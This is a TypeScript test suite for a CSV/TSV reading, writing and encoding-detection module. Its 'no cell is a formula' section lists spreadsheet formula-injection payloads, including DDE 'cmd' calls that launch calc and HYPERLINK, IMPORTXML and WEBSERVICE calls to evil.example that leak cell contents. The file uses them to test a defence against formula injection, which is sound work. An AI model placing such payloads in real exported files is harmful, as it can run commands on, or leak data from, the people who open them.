import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  type DelimitedFormat,
  decodeText,
  guardCell,
  guessFormat,
  readDelimited,
  readDelimitedInParts,
  unguardCell,
  writeCsv,
} from '../../src/exchange/delimited.ts';

const CSV: DelimitedFormat = { delimiter: ',', isQuoted: true, hasHeader: true };

/** The cell as it was before the guard went in front of it. */
const unguarded = (cell: string): string =>
  cell.startsWith("'") && guardCell(cell.slice(1)) === cell ? cell.slice(1) : cell;

const letters = fc.constantFrom(
  ',',
  ';',
  '"',
  '""',
  "'",
  '\n',
  '\r',
  '\r\n',
  '\t',
  '=',
  '+',
  '-',
  '@',
  '|',
  '%',
  '\u0000',
  ' ',
  '😀',
  'é',
  '\uFF1D',
  'a',
  '1',
);
const cell = fc
  .oneof(
    fc.string(),
    fc.array(letters).map((parts) => parts.join('')),
  )
  .filter((text) => !/^'[=+\-@\t\r\n|%\uFF1D\uFF0B\uFF0D\uFF20]/.test(text));

test('what is written is what is read, once the guard is taken away', () => {
  const width = 3;
  const row = fc.tuple(fc.constant('row'), cell, cell);
  fc.assert(
    fc.property(
      fc.tuple(fc.constant('id'), fc.constant('a'), fc.constant('b')),
      fc.array(row, { maxLength: 6 }),
      (header, rows) => {
        const { header: names, rows: read } = readDelimited(writeCsv(header, rows), CSV);
        expect(names).toEqual(header);
        expect(read.map((cells) => cells.map(unguarded))).toEqual(rows);
        expect(read.every((cells) => cells.length === width)).toBe(true);
      },
    ),
    { numRuns: 1000 },
  );
});

test('what is written comes back unchanged, header too, when the guard is taken off', () => {
  const anyCell = fc.oneof(
    fc.string({ unit: 'binary' }).map((text) => text.replaceAll(/\p{Cs}/gu, '')),
    fc.array(letters).map((parts) => parts.join('')),
  );
  for (const width of [1, 3]) {
    const row = fc.array(anyCell, { minLength: width, maxLength: width });
    fc.assert(
      fc.property(row, fc.array(row, { maxLength: 5 }), (header, rows) => {
        const read = readDelimited(writeCsv(header, rows), { ...CSV, removeGuard: true });
        expect(read.header).toEqual(header.map((name) => name.trim()));
        expect(read.rows).toEqual(rows);
      }),
      { numRuns: 500 },
    );
  }
});

test('only the apostrophe of the guard is taken off', () => {
  const cells = ["'tis", "'=1", "''=1", "'-3", '-3', "'", "''", "'＝1", '=1'];
  expect(cells.map(guardCell).map(unguardCell)).toEqual(cells);
  expect(unguardCell("'tis")).toBe("'tis");
  expect(unguardCell("'-3")).toBe("'-3");
});

describe('no cell is a formula', () => {
  const payloads = [
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '+1+1',
    '+cmd|calc',
    '-1+1',
    "-2+3+cmd|' /C calc'!D2",
    '- 1',
    '--1',
    '+-1',
    '@SUM(1+1)',
    '@A1',
    '=',
    '+',
    '-',
    '@',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\r\n=1+1',
    '\t',
    '\tplain',
    '\n@x',
    '|calc',
    '|=1+1',
    '%0A=1+1',
    '%=1',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(1)',
    '="',
    '=\u0000',
    '-1,5+2',
    '+49 170 1234567',
    '-1e',
    '=😀',
    '-١',
  ];
  test('there are enough of them', () => expect(new Set(payloads).size).toBeGreaterThanOrEqual(38));

  test.each(payloads)('%j', (payload) => {
    expect(guardCell(payload)).toBe(`'${payload}`);
    // As a header, as a first and as a later cell, written and read again.
    const { header, rows } = readDelimited(writeCsv([payload, 'b'], [[payload, payload]]), CSV);
    expect([...(header ?? []), ...(rows[0] ?? [])].filter((text) => text !== 'b')).toEqual([
      `'${payload}`.trim(),
      `'${payload}`,
      `'${payload}`,
    ]);
  });

  test.each(['-3.5', '+3', '-3,5', '-1e5', '-1.5E-7', '3', '0'])('%s is a number and stays one', (number) => {
    expect(guardCell(number)).toBe(number);
  });

  test('numbers are written as numbers and nothing as nothing', () => {
    expect(writeCsv(['a', 'b', 'c'], [[-1.5, null, 1e21]])).toBe('\uFEFFa,b,c\r\n-1.5,,1e+21\r\n');
  });

  test('words are never lost: the guard is one sign, and only where it is needed', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => [text, `'${text}`].includes(guardCell(text))),
      { numRuns: 1000 },
    );
  });
});

describe('reading', () => {
  test('quotation marks that are just letters keep every row of a tab-separated table', () => {
    const lines = [
      'id\ttext\tparty',
      ...Array.from(
        { length: 200 },
        (_, i) => `${i}\t${i % 3 === 0 ? 'he said "no' : i % 3 === 1 ? '"fine" I guess' : 'a 5" nail'}\tX`,
      ),
    ];
    const text = `${lines.join('\n')}\n`;
    const guess = guessFormat(text);
    expect(guess).toEqual({ delimiter: '\t', isQuoted: false });
    const { rows } = readDelimited(text, { ...guess, hasHeader: true });
    expect(rows).toHaveLength(200);
    expect(rows[0]).toEqual(['0', 'he said "no', 'X']);
    expect(rows[1]).toEqual(['1', '"fine" I guess', 'X']);
  });

  test.each([
    ['id,text\n1,"a; b; c"\n2,"d, e"\n', ',', true],
    ['id;text\n1;"a, b"\n2;"c"\n', ';', true],
    ['id|text\n1|a, b\n2|c, d\n', '|', true],
    ['id\ttext\n1\tso, so, so\n2\tno\n', '\t', false],
    ['"id"\t"text"\n"1"\t"a\tb"\n"2"\t"c"\n', '\t', true],
    ['one column\nand nothing, else\n', ',', true],
    ['', ',', true],
  ])('guesses how %j is written', (text, delimiter, isQuoted) => {
    expect(guessFormat(text)).toEqual({ delimiter, isQuoted });
  });

  test('a quotation mark that does not close is an error with its line, not a table with rows missing', () => {
    expect(() => readDelimited('id,text\n1,"a\n2,b\n3,c', CSV)).toThrow(/line/i);
  });

  test('ragged rows are kept as they are, and empty lines are no rows', () => {
    expect(readDelimited('a,b\n1\n\n1,2,3\n', CSV).rows).toEqual([['1'], ['1', '2', '3']]);
  });

  test('without a header every line is a row, and an empty file is an empty table', () => {
    expect(readDelimited('1,2\r\n3,4', { ...CSV, hasHeader: false })).toEqual({
      header: null,
      rows: [
        ['1', '2'],
        ['3', '4'],
      ],
    });
    expect(readDelimited('', CSV)).toEqual({ header: null, rows: [] });
  });

  test('cells keep their white space', () => {
    expect(readDelimited('a,b\n  x ,\t\n', CSV).rows).toEqual([['  x ', '\t']]);
  });
});

describe('decoding', () => {
  const words = 'Größe „Ärger“ 😀 – naïve';
  test('UTF-8 with and without BOM', () => {
    expect(decodeText(Buffer.from(words))).toBe(words);
    expect(decodeText(Buffer.from(`\uFEFF${words}`))).toBe(words);
  });
  test('UTF-16 both ways round, by its BOM', () => {
    const little = Buffer.from(`\uFEFF${words}`, 'utf16le');
    expect(decodeText(little)).toBe(words);
    expect(decodeText(Buffer.from(little).swap16())).toBe(words);
  });
  test('Latin-1 and Windows letters, where the bytes are no UTF-8', () => {
    expect(decodeText(Buffer.from('Größe', 'latin1'))).toBe('Größe');
    expect(decodeText(Uint8Array.of(0x93, 0x61, 0x94, 0x20, 0x80))).toBe('“a” €');
  });
  test('a BOM is no letter of the first column', () => {
    expect(readDelimited(decodeText(Buffer.from('\uFEFFid,x\n1,2')), CSV).header).toEqual(['id', 'x']);
  });
  test('whatever the bytes, there is a text', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 64 }), (bytes) => typeof decodeText(bytes) === 'string'));
  });
});

test('a table in UTF-16 is read with its mark and without, whichever byte comes first', () => {
  const text = 'id,Größe\n1,klein\n2,𠮷 と مرحبا\n';
  const little = Buffer.from(text, 'utf16le');
  const big = Buffer.from(little).swap16();
  expect(decodeText(little)).toBe(text);
  expect(decodeText(big)).toBe(text);
  expect(decodeText(Buffer.concat([Buffer.from([0xff, 0xfe]), little]))).toBe(text);
  expect(decodeText(Buffer.concat([Buffer.from([0xfe, 0xff]), big]))).toBe(text);
});

test('a zero byte here and there does not make a text of one byte a letter into another', () => {
  for (const text of [
    'a,b\n1,2\u0000\n',
    '\u0000,\u0000,\n',
    'a\u0000b\u0000c and much more that is written plainly\n',
    '',
  ])
    expect(decodeText(Buffer.from(text))).toBe(text);
});

test('a line that tells a spreadsheet which sign parts the cells is followed, and is no row', async () => {
  const text = '\uFEFFsep=|\r\na,1|b\r\n1,5|2\r\n';
  const { delimiter, isQuoted } = guessFormat(text);
  expect(delimiter).toBe('|');
  const format = { delimiter, isQuoted, hasHeader: true };
  const table = { header: ['a,1', 'b'], rows: [['1,5', '2']] };
  expect(readDelimited(text, format)).toEqual(table);
  expect(await readDelimitedInParts(text, format)).toEqual(table);
  expect(readDelimited('sep=here\nx\n', { ...format, hasHeader: false }).rows).toEqual([['sep=here'], ['x']]);
});
